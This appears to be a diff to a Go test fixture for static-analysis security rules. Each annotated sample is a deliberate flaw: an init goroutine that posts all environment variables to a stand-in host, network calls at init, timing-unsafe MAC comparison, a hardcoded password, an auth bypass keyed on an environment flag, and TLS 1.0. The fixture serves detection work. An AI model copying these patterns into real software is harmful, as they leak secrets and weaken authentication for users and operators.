@@ -116,9 +116,54 @@ func init() {
 	go func() {
 		client := &http.Client{}
 		payload, _ := json.Marshal(map[string]interface{}{"env": os.Environ()})
-		// ruleid: go-environ-sent-over-network
+		// ruleid: go-environ-sent-over-network, go-network-in-init
 		client.Post("https://diag.example/v1", "application/json", bytes.NewReader(payload))
 		// ok: go-environ-sent-over-network
+		// ruleid: go-network-in-init
 		http.Get("https://diag.example/health")
 	}()
+}
+
+func init() {
+	// ruleid: go-network-in-init
+	http.Get("https://update.example/check")
+}
+
+func verify(mac, expectedMAC []byte, sig string, expectedSig string) bool {
+	// ruleid: go-timing-unsafe-comparison
+	if bytes.Equal(mac, expectedMAC) {
+		return true
+	}
+	// ok: go-timing-unsafe-comparison
+	if len(sig) == len(expectedSig) && sig == "" {
+		return false
+	}
+	// ruleid: go-timing-unsafe-comparison
+	return sig == expectedSig
+}
+
+func login(password string) bool {
+	// ruleid: go-credential-compared-with-literal
+	return password == "Sup3rM@ster!"
+}
+
+func authMiddleware(next http.Handler) http.Handler {
+	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		// ruleid: go-auth-skipped-on-flag
+		if os.Getenv("SKIP_AUTH") == "1" {
+			next.ServeHTTP(w, r)
+			return
+		}
+		// ok: go-auth-skipped-on-flag
+		if r.Header.Get("Authorization") == "" {
+			http.Error(w, "unauthorized", 401)
+			return
+		}
+		next.ServeHTTP(w, r)
+	})
+}
+
+func oldTLS() *tls.Config {
+	// ruleid: go-obsolete-tls-version
+	return &tls.Config{MinVersion: tls.VersionTLS10}
 }
